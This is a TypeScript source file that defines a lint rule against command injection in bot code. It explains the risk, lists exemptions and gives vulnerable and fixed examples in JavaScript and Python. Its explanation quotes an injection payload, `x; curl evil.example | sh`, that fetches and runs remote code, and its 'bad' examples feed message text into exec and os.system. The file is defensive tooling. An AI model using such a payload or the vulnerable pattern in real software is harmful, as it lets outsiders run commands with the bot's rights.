/** Untrusted text in a shell's command line, as a program, or as an argument that a program may take for an option. */
import { flowRule, type InEachLanguage } from "../define.js";
import { gradeCommand } from "./command-grade.js";
import { useInstead } from "../wording.js";
import { offer } from "./suggestions/index.js";

export const noCommandInjection = flowRule({
  name: "no-command-injection",
  description: "Disallow untrusted text in commands that the bot runs",
  why: "A message such as `x; curl evil.example | sh` ends the intended command and starts another one with the rights of the bot. Without a shell, an argument that starts with a hyphen still becomes an option of the program.",
  instead:
    'Run the program without a shell and give each argument on its own: `execFile("git", ["log", "--", name])`, `subprocess.run(["git", "log", "--", name])`. Put `--` before arguments that come from outside.',
  notAFinding: [
    "`execFile` and `spawn` with a constant program and untrusted text in an argument that cannot be an option (reported in `strict` when it can)",
    "A message that is run as it is, of somebody who has been found to be allowed to: the owner's own shell (reported in `strict`)",
    "What a model chose and a person has agreed to: an option of the tool (`needsApproval`, `requires_approval`), a yes that the program asked for",
    "Values checked against a fixed list or an anchored pattern of harmless characters",
    "`regex.exec(text)`, `query.exec()` and other methods that share the name only",
    "Shells that quote their holes, such as Bun's `$`",
    "Text quoted by `shlex.quote` in a shell's command line",
    "`subprocess.run([…])` without `shell=True`, on the same terms as `execFile`",
  ],
  example: {
    javascript: {
      bad: "exec(`ping -c 1 ${message.content}`);",
      good: 'if (!/^[a-z0-9.]+$/.test(host)) return;\nexecFile("ping", ["-c", "1", host]);',
    },
    python: {
      bad: 'os.system(f"ping -c 1 {update.message.text}")',
      good: 'if not re.fullmatch(r"[a-z0-9.]+", host):\n    return\nsubprocess.run(["ping", "-c", "1", host])',
    },
  },
  preset: "recommended",
  strictBecause:
    "An argument that may begin with a hyphen harms only with programs that have dangerous options; what a service of the bot's own choosing answers seldom does; the owner's own shell is there for just that.",
  cwe: [78, 88],
  owaspLlm2025: ["LLM05"],
  owaspLlm2026: ["LLM10"],
  asi: ["ASI05"],
  mcp: ["MCP05"],
  practices: ["injection"],
  securitySeverity: 9.8,
  kinds: ["command", "argument"],
  strictSources: ["environment", "argv"],
  reaches: "a shell command",
  advice: (hit, language) =>
    hit.kind === "argument" ? useInstead(hit, ARGUMENT) : useInstead(hit, SHELL[language], " with a list of arguments"),
  grade: gradeCommand,
  suggest: offer("run-without-shell", "quote-for-shell"),
});

const SHELL: InEachLanguage = {
  javascript: "Run the program without a shell and pass a list of arguments instead.",
  python: "Run the program without a shell and pass a list of arguments, or quote the value with `shlex.quote`, instead.",
};
const ARGUMENT = "Keep the program constant, and put `--` before arguments from outside, instead.";
